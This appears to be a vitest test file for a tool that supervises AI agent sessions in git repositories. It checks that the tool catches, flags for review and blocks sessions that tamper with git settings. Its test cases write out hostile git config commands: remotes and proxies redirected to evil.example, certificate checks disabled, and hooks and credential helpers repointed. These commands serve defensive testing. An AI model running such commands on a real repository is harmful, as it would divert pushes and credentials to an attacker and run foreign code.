/** A session changes where the user's git sends, what it believes or what it runs: that is seen, and not forgotten. */
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { SessionView } from '../../src/contract/session.ts';
import { createWorld, untilEnded, untilSession, type World } from '../support/world.ts';

let world: World;

beforeEach(async () => {
  world = await createWorld({
    config: { default_agent: 'scripted', limits: { min_free_disk: '1MB', min_free_memory: '1MB' } },
  });
  await world.git('remote', 'add', 'origin', 'https://maria:secret@git.example.org/app.git');
  await world.startDaemon();
});

afterEach(() => world[Symbol.asyncDispose]());

const script = (...steps: object[]) => `<script>${JSON.stringify(steps)}</script>`;
const running = (command: string) => script({ do: 'run', command }, { do: 'say', text: 'tuned' });

async function start(task: string): Promise<SessionView> {
  const [session] = await world.client.ask('sessions', {
    type: 'start',
    repo: world.repo,
    tasks: [{ task }],
  });
  if (!session) throw new Error('no session');
  return session;
}

async function ended(task: string): Promise<SessionView> {
  const [session] = await untilEnded(world, [(await start(task)).id]);
  if (!session) throw new Error('no session');
  return session;
}

async function tripped({ id }: SessionView): Promise<{ what: string; detail: string }[]> {
  const events = await world.client.history(id, { limit: 5_000 });
  return events.flatMap((event) =>
    event.kind === 'guard.tripped' && event.data.where === 'repository' ? [event.data] : [],
  );
}

const refused = () => world.cli('start', 'next task', '--repo', world.repo);

describe('a session that changes which servers git uses', () => {
  it.each<[string, string, string]>([
    ['the URL of a remote', 'remote set-url origin https://evil.example/app.git', 'remote.origin.url'],
    [
      'where it pushes to',
      'config remote.origin.pushurl https://evil.example/app.git',
      'remote.origin.pushurl',
    ],
    ['a remote to push to', 'config remote.pushDefault evil', 'remote.pushdefault'],
    ['the proxy', 'config http.proxy http://evil.example:1', 'http.proxy'],
    ['the proxy of one server', 'config http.https://git.example.org/.proxy http://evil.example:1', '.proxy'],
    ['the check of certificates', 'config http.sslVerify false', 'http.sslverify'],
  ])('(%s) needs a person, and so does the next session', async (_what, change, key) => {
    const session = await ended(running(`git ${change}`));
    expect(session).toMatchObject({ status: 'completed', attention: ['review'] });
    const found = await tripped(session);
    expect(found).toMatchObject([{ what: expect.stringContaining(key) as string }]);
    expect(JSON.stringify(found)).not.toContain('secret');

    const next = await refused();
    expect(next.status).toBe(5);
    expect(next.stderr).toContain(`session ${session.id} changed this repository`);
    expect(next.stderr).toContain(`fairlead trust ${world.repo}`);
    const trusted = await world.cli('trust', world.repo);
    expect(trusted.status, trusted.stderr).toBe(0);
    expect(trusted.stdout).toContain(key);
    await expect(ended(script({ do: 'say', text: 'on' }))).resolves.toMatchObject({ status: 'completed' });
  });
});

describe('a session that changes what git executes', () => {
  it.each<[string, string]>([
    ['hooks from elsewhere', 'git config core.hooksPath /tmp/hooks'],
    ['a credential helper', 'git config credential.helper "!evil"'],
    [
      'other addresses behind a URL',
      'git config url.https://evil.example/.insteadOf https://git.example.org/',
    ],
  ])('(%s) fails, and no session starts until it is changed back', async (_what, command) => {
    const before = await world.git('config', '--list', '--local');
    const session = await ended(running(command));
    expect(session).toMatchObject({ outcome: { failure: 'guard' }, attention: ['review'] });
    expect((await refused()).status).toBe(5);
    const again = await world.cli('continue', session.id, 'again');
    expect(again.status, again.stderr).toBe(0);
    const [continued] = await untilEnded(world, [session.id]);
    expect(continued).toMatchObject({ outcome: { failure: 'guard' } });

    const key = /config (\S+)/.exec(command)?.[1] ?? '';
    await world.git('config', '--unset', key);
    expect(await world.git('config', '--list', '--local')).toBe(before);
    await expect(ended(script({ do: 'say', text: 'on' }))).resolves.toMatchObject({ status: 'completed' });
  });

  it('and is stopped before its turn ends is found out all the same', async () => {
    const session = await start(
      script(
        { do: 'run', command: 'git config core.hooksPath /tmp/hooks' },
        { do: 'run', command: 'touch asked', ask: true },
      ),
    );
    await untilSession(world, session.id, ({ phase }) => phase === 'waiting');
    expect((await world.cli('stop', session.id)).status).toBe(0);
    const [stopped] = await untilEnded(world, [session.id]);
    expect(stopped).toMatchObject({ status: 'failed', attention: ['review'] });
    if (!stopped) throw new Error('no session');
    expect(await tripped(stopped)).toMatchObject([{ what: 'config core.hookspath' }]);
    expect((await refused()).status).toBe(5);
  });

  it('and whose agent is killed and started again is held against how it was before', async () => {
    const session = await start(
      script(
        { do: 'run', command: 'git config core.hooksPath /tmp/hooks' },
        { do: 'run', command: 'touch asked', ask: true },
      ),
    );
    const { pid } = await untilSession(world, session.id, ({ phase }) => phase === 'waiting');
    process.kill(pid ?? 0, 'SIGKILL');
    await untilSession(
      world,
      session.id,
      (view) => view.phase === 'ended' || (view.pid !== null && view.pid !== pid),
    );
    await world.cli('stop', session.id);
    const [stopped] = await untilEnded(world, [session.id]);
    expect(stopped).toMatchObject({ attention: ['review'] });
    expect((await refused()).status).toBe(5);
  });
});
